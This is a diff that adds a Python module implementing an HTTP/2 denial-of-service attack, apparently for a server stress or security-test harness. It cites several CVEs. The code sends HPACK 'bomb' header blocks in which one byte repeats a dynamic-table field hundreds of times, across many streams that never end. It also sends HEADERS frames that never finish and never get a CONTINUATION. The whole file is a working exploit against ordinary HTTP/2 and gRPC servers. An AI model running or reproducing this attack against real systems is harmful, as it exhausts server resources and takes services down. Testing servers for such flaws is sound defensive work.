@@ -1,0 +1,51 @@
+"""The HTTP/2 bomb (CVE-2026-49975, CVE-2026-47774; before them CVE-2016-6581): one byte on the
+wire repeats a field of the dynamic table, and costs the server a field of a request that never
+ends.
+
+Per connection 200 requests without END_STREAM: of as many empty fields as fit into the largest
+header list, of as many as there may be, and of as many as there may be that fill the largest
+header list. Further connections send header blocks that never end (CVE-2024-27316): a HEADERS
+frame without END_HEADERS, and no CONTINUATION after it.
+"""
+
+import asyncio
+
+from support import frames, grpc, hpack
+from support.connection import STREAMS, Attack, Connection
+
+BOMBS, UNFINISHED = 20, 200
+# How often a field is repeated, and the length of its value. A request has 6 other fields, and
+# may have 100 fields and 16 KiB (`limits.header_list`), of which a field costs 32 bytes.
+KINDS = ((481, 0), (94, 0), (94, 130))
+
+
+async def attack(attack: Attack) -> None:
+    await asyncio.gather(
+        attack.keep(BOMBS * len(KINDS), send_bombs),
+        attack.keep(UNFINISHED, begin_a_block),
+    )
+
+
+async def send_bombs(connection: Connection, number: int) -> None:
+    block = bomb(connection.scheme, *KINDS[number % len(KINDS)])
+    while not connection.is_closed:
+        while len(connection.streams) < STREAMS and not connection.is_full:
+            connection.open_stream(block)
+            if connection.is_closed:
+                return
+        await connection.turn(0)
+
+
+def bomb(scheme: bytes, repeats: int, value_length: int) -> bytes:
+    fields = hpack.indexed_literal("c", "v" * value_length) + hpack.NEWEST * (repeats - 1)
+    return hpack.request(grpc.CALL, scheme=scheme) + fields
+
+
+async def begin_a_block(connection: Connection, number: int) -> None:
+    block = bomb(connection.scheme, *KINDS[0])
+    # Half of them say that the frame is larger than what they send of it.
+    missing = number % 2 * 1024
+    head = frames.head(len(block) + missing, frames.HEADERS, 0, 1)
+    connection.write(head + block)
+    while not connection.is_closed:
+        await connection.turn(0)
